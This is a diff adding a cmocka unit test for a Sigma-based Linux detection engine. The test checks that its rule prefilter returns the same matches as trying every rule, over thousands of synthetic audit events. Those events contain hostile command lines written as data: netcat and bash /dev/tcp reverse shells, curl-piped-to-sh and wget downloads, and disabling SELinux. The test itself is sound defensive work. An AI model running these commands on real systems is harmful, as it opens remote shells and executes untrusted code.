@@ -371,6 +371,83 @@ test_sigmahq_linux_rules(void **state)
 	}
 }
 
+struct hits {
+	const struct detect_rule *r[512];
+	size_t n;
+};
+
+static void
+collect(void *ctx, const struct detect_rule *r)
+{
+	struct hits *h = ctx;
+
+	if (h->n < 512)
+		h->r[h->n++] = r;
+}
+
+/*
+ * The prefilter never changes an answer: for many events, the rules of a
+ * source that the rule set reports (prefiltered, in rule order) are exactly
+ * those that match when every rule of that source is tried.
+ */
+static void
+test_prefilter_same_answers(void **state)
+{
+	static const char *const types[] = { "EXECVE", "execve", "SYSCALL", "PATH", "CONFIG_CHANGE", "DAEMON_END",
+					     "USER_LOGIN" };
+	static const char *const images[] = { "/usr/bin/nc", "/USR/BIN/NC", "nc", "/tmp/x", "/bin/bash", "/usr/bin/wget",
+					      "/usr/bin/chmod", "/usr/bin/base64", "/usr/sbin/setenforce",
+					      "/usr/bin/crontab", "/usr/bin/curl", "/dev/shm/.a", "/usr/bin/python3" };
+	static const char *const cmds[] = { "nc -e /bin/sh 10.0.0.1 4444", "chmod +x /tmp/x", "base64 -d",
+					    "crontab -l", "setenforce 0", "curl -fsSL http://x | sh", "python3 -c import pty",
+					    "wget http://a/b -O /tmp/b", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1" };
+	const char *dir = getenv("BW_SIGMA_DIR");
+	char def[1024], json[1024];
+	struct detect_ruleset *rs = NULL;
+	struct detect_load_report rep = { 0 };
+	struct detect_json_event *je = NULL;
+	struct bw_err err = { 0 };
+	size_t i, k, total = 0;
+
+	(void)state;
+	if (dir == NULL) {
+		snprintf(def, sizeof def, "%s/../shared/sigma/rules/linux", BW_SOURCE_DIR);
+		dir = def;
+	}
+	assert_int_equal(detect_ruleset_load_with_builtin(dir, &rs, &rep, &err), 0);
+	assert_int_equal(detect_json_event_new(&je, &err), 0);
+	for (i = 0; i < 4000; i++) {
+		const char *img = images[i % 13], *cmd = cmds[(i / 13) % 9], *type = types[(i / 7) % 7];
+		enum detect_source src = i % 3 == 0 ? DETECT_SRC_AUDITD : i % 3 == 1 ? DETECT_SRC_PROCESS_CREATION
+										   : DETECT_SRC_BULWARK;
+		struct hits fast = { .n = 0 }, slow = { .n = 0 };
+		if (i % 5 == 0)	/* a field that occurs twice */
+			snprintf(json, sizeof json, "{\"type\":[\"%s\",\"PATH\"],\"Image\":[\"%s\",\"/bin/sh\"],\"CommandLine\":\"%s\","
+				 "\"a0\":\"%s\",\"exe\":\"%s\",\"action\":\"auth.lockout\"}", type, img, cmd,
+				 strrchr(img, '/') ? strrchr(img, '/') + 1 : img, img);
+		else
+			snprintf(json, sizeof json, "{\"type\":\"%s\",\"Image\":\"%s\",\"CommandLine\":\"%s\",\"a0\":\"%s\","
+				 "\"a1\":\"-e\",\"exe\":\"%s\",\"ParentImage\":\"/tmp/p\",\"action\":\"patch.install\","
+				 "\"details\":{\"reported\":\"refused\"}}", type, img, cmd,
+				 strrchr(img, '/') ? strrchr(img, '/') + 1 : img, img);
+		assert_int_equal(detect_json_event_parse(je, json, strlen(json), &err), 0);
+		detect_ruleset_match(rs, src, detect_json_event_get(je), collect, &fast);
+		for (k = 0; k < detect_ruleset_count(rs); k++) {
+			const struct detect_rule *r = detect_ruleset_rule(rs, k);
+			if (detect_rule_source(r) == src && detect_rule_match(r, detect_json_event_get(je)))
+				collect(&slow, r);
+		}
+		if (fast.n != slow.n || memcmp(fast.r, slow.r, fast.n * sizeof fast.r[0]) != 0)
+			fail_msg("event %zu (%s, source %s): %zu rules with the prefilter, %zu without", i, json,
+				 detect_source_name(src), fast.n, slow.n);
+		total += fast.n;
+	}
+	assert_true(total > 1000);	/* the events do match rules: the comparison means something */
+	detect_json_event_free(je);
+	detect_load_report_clear(&rep);
+	detect_ruleset_free(rs);
+}
+
 /* JSON events: dotted names, repeated array fields, numbers and booleans as text; explain names the fields. */
 static void
 test_json_events_and_explain(void **state)
@@ -460,6 +537,7 @@ main(void)
 		cmocka_unit_test(test_sigmahq_linux_rules),
 		cmocka_unit_test(test_json_events_and_explain),
 		cmocka_unit_test(test_calendar_and_enrichment),
+		cmocka_unit_test(test_prefilter_same_answers),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
